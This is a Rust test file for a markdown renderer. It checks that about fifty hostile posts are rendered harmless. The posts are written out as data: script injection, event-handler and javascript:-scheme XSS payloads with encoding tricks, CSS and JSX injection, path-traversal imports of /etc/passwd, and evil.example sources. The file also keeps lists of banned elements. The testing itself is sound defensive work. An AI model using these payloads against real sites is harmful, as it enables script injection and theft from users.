//! Hostile posts. Each case is an attack papershelf must defuse; every case is
//! also checked for what must never be in the tree: an `on*` attribute, a URL
//! with a scheme other than http, https, mailto or data:image, or a banned
//! element. The element allow-list itself is enforced by the types in `doc`.

use papershelf_core::doc::{AttrValue, HashLinker, Node, Target};
use papershelf_core::html::to_html;
use papershelf_core::post::{ParsedPost, Post};

const PATH: &str = "papers/y2025/nov/20251106.md";

fn render(text: &str) -> (ParsedPost, String) {
    let parsed = Post::parse(PATH, text);
    let html = to_html(
        parsed.doc(),
        &HashLinker {
            content_base: "content/".into(),
        },
    );
    (parsed, html)
}

/// What no rendered post may ever hold.
fn assert_safe(name: &str, parsed: &ParsedPost, html: &str) {
    let lower = html.to_ascii_lowercase();
    for banned in [
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<base",
        "<meta",
        "<form",
        "<style",
        "<svg",
        "<link",
        "<textarea",
        "<template",
        "<noscript",
    ] {
        assert!(!lower.contains(banned), "{name}: {banned} in\n{html}");
    }
    let mut stack: Vec<&Node> = parsed.doc().children.iter().collect();
    while let Some(node) = stack.pop() {
        let Node::Element(el) = node else { continue };
        for a in el.attrs() {
            assert!(!a.name.starts_with("on"), "{name}: {} attribute", a.name);
            match &a.value {
                AttrValue::Url(Target::External { url }) => {
                    let u = url.to_ascii_lowercase();
                    assert!(
                        [
                            "http://",
                            "https://",
                            "mailto:",
                            "data:image/png",
                            "data:image/gif",
                            "data:image/jpeg",
                            "data:image/webp"
                        ]
                        .iter()
                        .any(|s| u.starts_with(s)),
                        "{name}: URL {url}"
                    );
                }
                AttrValue::Url(Target::Asset { path, .. } | Target::Post { path, .. }) => {
                    assert!(
                        !path.split('/').any(|s| s == ".."),
                        "{name}: path {path} leaves the content directory"
                    );
                }
                AttrValue::Style(decls) => {
                    for (p, v) in decls {
                        assert!(
                            !v.contains('(') && !v.contains(':'),
                            "{name}: style {p}:{v}"
                        );
                        assert!(
                            !["position", "background", "behavior"].contains(p),
                            "{name}: style {p}"
                        );
                    }
                }
                AttrValue::Text(t) => {
                    if a.name == "id" {
                        assert!(
                            !["__proto__", "location", "document", "window", "cookie"]
                                .contains(&t.as_str()),
                            "{name}: id {t}"
                        );
                    }
                }
            }
        }
        stack.extend(el.children.iter());
    }
}

/// (attack, post, text that must still be shown)
const CASES: &[(&str, &str, &str)] = &[
    ("script block", "<script>window.__pwned = 1</script>\n\nafter", "after"),
    ("script inline", "a <script>window.__pwned = 1</script> b", "a  b"),
    ("script with blank lines inside", "<script>\n\nwindow.__pwned = 1\n\n</script>\n\nafter", "after"),
    ("upper-case script with src", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>ok", "ok"),
    ("img onerror", "<img src=\"x.png\" onerror=\"window.__pwned=1\">", ""),
    ("svg onload", "<svg onload=\"window.__pwned=1\"><circle r=1 /></svg>kept", "kept"),
    ("iframe srcdoc", "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>", ""),
    ("object and embed", "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">after", "after"),
    ("base href", "<base href=\"https://evil.example/\">\n\n[rel](x.md)", "rel"),
    ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", ""),
    ("form and input", "<form action=\"https://evil.example\"><input name=\"q\" autofocus onfocus=\"x()\"></form>", ""),
    ("style block", "<style>body { display: none }</style>\n\nvisible", "visible"),
    ("link stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", ""),
    ("raw MathML with script", "<math><mtext><script>window.__pwned=1</script></mtext></math>", ""),
    ("a href javascript", "<a href=\"javascript:window.__pwned=1\">x</a>", "x"),
    ("tab inside the scheme", "<a href=\"jav&#x09;ascript:window.__pwned=1\">x</a>", "x"),
    ("entity-encoded scheme", "<a href=\"&#106;avascript:window.__pwned=1\">x</a>", "x"),
    ("mixed-case scheme", "<a href=\"JaVaScRiPt:window.__pwned=1\">x</a>", "x"),
    ("leading control character", "<a href=\"\u{1}javascript:window.__pwned=1\">x</a>", "x"),
    ("newline inside the scheme", "<a href=\"java\nscript:window.__pwned=1\">x</a>", "x"),
    ("markdown link javascript", "[x](javascript:window.__pwned=1)", "x"),
    ("markdown image javascript", "![x](javascript:window.__pwned=1)", ""),
    ("reference definition javascript", "[x][r]\n\n[r]: javascript:window.__pwned=1", "x"),
    ("autolink javascript", "<javascript:window.__pwned=1>", ""),
    ("vbscript", "[x](vbscript:msgbox)", "x"),
    ("data text/html link", "[x](data:text/html,<script>alert(1)</script>)", "x"),
    ("data svg image", "![x](data:image/svg+xml,<svg onload=alert(1)>)", ""),
    ("html comment hiding a script", "<!-- <script>window.__pwned=1</script> -->ok", "ok"),
    ("noscript with onerror", "<noscript><img src=x onerror=\"window.__pwned=1\"></noscript>ok", "ok"),
    ("template", "<template><img src=x onerror=\"window.__pwned=1\"></template>ok", "ok"),
    ("textarea", "<textarea><script>window.__pwned=1</script></textarea>ok", "ok"),
    ("encoded tags stay text", "&lt;script&gt;window.__pwned=1&lt;/script&gt;", "<script>window.__pwned=1</script>"),
    ("css url and position", "<div style=\"position:fixed;top:0;background:url(javascript:alert(1));width:10px\">x</div>", "x"),
    ("css expression", "<div style=\"width:expression(alert(1))\">x</div>", "x"),
    ("jsx expression src", "<img src={alert(1)} />", ""),
    ("jsx event handler", "<div onClick={() => { window.__pwned = 1 }}>x</div>", "x"),
    ("jsx spread", "<div {...{dangerouslySetInnerHTML: {__html: '<img src=x onerror=alert(1)>'}}}>x</div>", "x"),
    ("jsx dangerouslySetInnerHTML", "<div dangerouslySetInnerHTML={{__html: '<script>alert(1)</script>'}} />ok", "ok"),
    ("jsx style position fixed", "<div style={{position: 'fixed', backgroundImage: 'url(x)', width: 10}}>x</div>", "x"),
    ("import of an absolute path", "import x from '/etc/passwd';\n\n<img src={x} />", ""),
    ("import climbing out", "import x from '../../../../../../etc/passwd';\n\n<img src={x} />", ""),
    ("import from another site", "import x from 'https://evil.example/x.png';\n\n<img src={x} />", ""),
    ("heading ids that shadow globals", "## location\n\n## __proto__\n\n## document", "location"),
    ("element ids that shadow globals", "<div id=\"cookie\">x</div><span id=\"__proto__\">y</span>", "x"),
    ("name attributes", "<a name=\"location\">x</a><img name=\"cookie\" src=\"a.png\">", "x"),
    ("front matter with markup", "---\ntitle: \"<img src=x onerror=alert(1)>\"\ntags: [\"<script>\"]\n---\nbody", "body"),
    ("cdata", "<![CDATA[<script>window.__pwned=1</script>]]>ok", "ok"),
    ("unclosed script", "text\n\n<script>window.__pwned = 1", "text"),
    ("admonition title with markup", ":::note[<img src=x onerror=alert(1)>]\nbody\n:::", "body"),
];

#[test]
fn every_hostile_post_is_defused() {
    assert!(CASES.len() >= 40);
    for (name, text, shown) in CASES {
        let (parsed, html) = render(text);
        assert_safe(name, &parsed, &html);
        let plain: String = parsed.doc().children.iter().map(Node::plain_text).collect();
        assert!(
            plain.contains(shown),
            "{name}: {shown:?} not shown in {plain:?}"
        );
    }
}

#[test]
fn front_matter_markup_stays_text() {
    let (parsed, _) =
        render("---\ntitle: \"<img src=x onerror=alert(1)>\"\ntags: [\"<script>\"]\n---\nbody");
    assert_eq!(
        parsed.post.title, "<img src=x onerror=alert(1)>",
        "a title is text, shown as written"
    );
    assert_eq!(parsed.post.tags, ["<script>"]);
}

#[test]
fn import_paths_outside_the_content_directory_bind_nothing() {
    for text in [
        "import x from '/etc/passwd';\n<img src={x} />",
        "import x from 'https://evil.example/x.png';\n<img src={x} />",
    ] {
        let (parsed, html) = render(text);
        assert!(!html.contains("<img"), "{html}");
        assert!(
            parsed
                .diagnostics
                .iter()
                .any(|d| d.message.contains("unknown name `x`")),
            "{:?}",
            parsed.diagnostics
        );
    }
    let (parsed, html) = render("import x from '../../../../../../etc/passwd';\n<img src={x} />");
    assert!(!html.contains("<img") && !html.contains("src="), "{html}");
    assert!(
        html.contains("ps-broken"),
        "the refused image is marked: {html}"
    );
    assert!(
        parsed
            .diagnostics
            .iter()
            .any(|d| d.message.contains("outside the content directory")),
        "{:?}",
        parsed.diagnostics
    );
}

#[test]
fn odd_encodings_render_or_are_refused_with_a_message() {
    let (p, _) = render("\u{feff}# BOM title\r\n\r\n## 1. [CRLF](https://x.org) `tag`\r\n");
    assert_eq!(p.post.title, "BOM title");
    assert_eq!(p.post.entries[0].tags, ["tag"]);
    let (p, html) = render("# NUL\0 byte\n\ntext\0more");
    assert!(html.contains("NUL"), "{html}");
    assert_eq!(
        p.post.title.chars().filter(|c| *c == '\0').count(),
        0,
        "NUL is replaced"
    );
    let lossy = String::from_utf8_lossy(b"# Caf\xe9\n\nok").into_owned();
    assert_eq!(render(&lossy).0.post.title, "Caf\u{fffd}");
}

#[test]
fn a_ten_megabyte_post_renders() {
    let para = "Some review text with **bold** and `code` and a [link](https://example.org). "
        .repeat(20)
        + "\n\n";
    let mut text = String::from("# Big\n\n");
    let mut n = 0;
    while text.len() < 10 << 20 {
        text.push_str(&format!(
            "## {n}. [Paper {n}](https://example.org/{n}) `tag{}`\n\n",
            n % 50
        ));
        text.push_str(&para);
        n += 1;
    }
    let start = std::time::Instant::now();
    let (parsed, _) = render(&text);
    assert_eq!(parsed.post.entries.len(), n);
    assert!(start.elapsed().as_secs() < 60, "took {:?}", start.elapsed());
    let huge = "x".repeat(papershelf_core::post::MAX_POST_BYTES + 1);
    let (parsed, _) = render(&huge);
    assert!(
        parsed.diagnostics[0].message.contains("split it"),
        "{:?}",
        parsed.diagnostics
    );
}
